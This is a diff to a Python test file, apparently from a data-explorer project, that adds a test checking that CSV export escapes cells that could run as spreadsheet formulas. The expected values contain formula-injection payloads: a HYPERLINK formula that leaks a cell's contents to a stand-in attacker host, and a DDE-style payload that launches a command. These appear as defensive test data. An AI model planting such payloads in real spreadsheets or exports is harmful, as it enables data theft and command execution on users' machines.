@@ -3,6 +3,7 @@ tables (page text always escaped), links (http and https only), CSV links and pa
 from __future__ import annotations
 
 import base64
+import io
 
 import numpy as np
 import pandas as pd
@@ -219,3 +220,12 @@ def test_csv_link_carries_the_text_unchanged_and_escapes_its_name_and_label():
     assert link["download"] == 'side "effects".csv' and link.get_text() == "Download <3 rows>"
     assert set(link.attrs) == {"download", "href"} and soup.find("script") is None
     assert decoded(csv_data_url("")) == ""
+
+
+def test_rows_csv_cells_never_run_as_spreadsheet_formulas(formula_corpus):
+    from explorer.app.render import rows_csv
+
+    back = pd.read_csv(io.StringIO(rows_csv(formula_corpus.side_effects)))
+    assert sorted(back["name"]) == ["'+Dizziness", "'-Fainting", "'=HYPERLINK(\"http://attacker.test/?leak=\"&A1,\"Open\")",
+                                    "'@SUM(1+1)*cmd|' /C calc'!A0"]
+    assert back["description"].str.startswith("a ").all() and pd.api.types.is_integer_dtype(back["line"])
